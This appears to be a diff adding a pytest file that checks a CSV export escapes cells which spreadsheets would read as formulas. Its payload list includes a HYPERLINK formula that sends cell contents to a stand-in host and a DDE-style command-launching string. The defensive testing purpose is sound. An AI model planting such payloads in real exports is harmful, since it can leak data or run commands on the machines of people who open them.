@@ -1,0 +1,80 @@
+"""Text by others that a spreadsheet would take for a formula."""
+
+from __future__ import annotations
+
+import ast
+import csv
+from pathlib import Path
+
+import pytest
+
+from host.csv_file import cell, write_csv_file
+from host.export import write_csv
+from host.failures import write_sheet
+from host.lines import lines
+from host.rows import Failure
+from tests.host.played import row, run_of
+
+ROOT = Path(__file__).parents[2]
+
+FORMULAS = [
+    '=HYPERLINK("https://elsewhere.example/?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "＝1+1",
+    "%0A=1",
+    "|cmd",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_that_begins_like_a_formula_is_a_text(text: str) -> None:
+    assert cell(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("value", ["plain", "a=b", "", "https://x.example", "{}", 7, -1.5, None])
+def test_other_values_are_as_they_are(value: object) -> None:
+    assert cell(value) == value
+
+
+def test_no_cell_begins_behind_a_semicolon_or_a_line_end(tmp_path: Path) -> None:
+    """Where a comma is the decimal sign, semicolons separate cells."""
+    path = tmp_path / "a.csv"
+    write_csv_file(path, ["a", "b"], [{"a": "x;=1+1\n=2", "b": True}])
+    assert path.read_bytes() == b'"a","b"\r\n"x;=1+1\n=2","true"\r\n'
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_file_of_a_report_holds_a_formula(tmp_path: Path, formula: str) -> None:
+    played = [
+        row("a", beneficial=True, score=0, reason=formula, agent=formula, domain=formula),
+        row("b", beneficial=True, score=0).model_copy(
+            update={"fate": "void", "failure": Failure(type=formula, message=formula)}
+        ),
+    ]
+    found = lines([run_of(tmp_path / "run", played)])
+    write_csv(found, tmp_path / "rows.csv")
+    write_sheet(found, tmp_path / "failures.csv")
+    for name in ("rows.csv", "failures.csv"):
+        with (tmp_path / name).open(newline="", encoding="utf-8") as file:
+            cells = [each for record in csv.reader(file) for each in record]
+        assert f"'{formula}" in cells
+        assert formula not in cells
+
+
+def test_every_csv_file_is_written_in_one_place() -> None:
+    writers = [
+        str(path.relative_to(ROOT))
+        for package in ("host", "toolgen", "tasks", "bench", "vm")
+        for path in (ROOT / package).rglob("*.py")
+        if any(
+            isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv")
+            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
+        )
+    ]
+    assert writers == ["host/csv_file.py"]
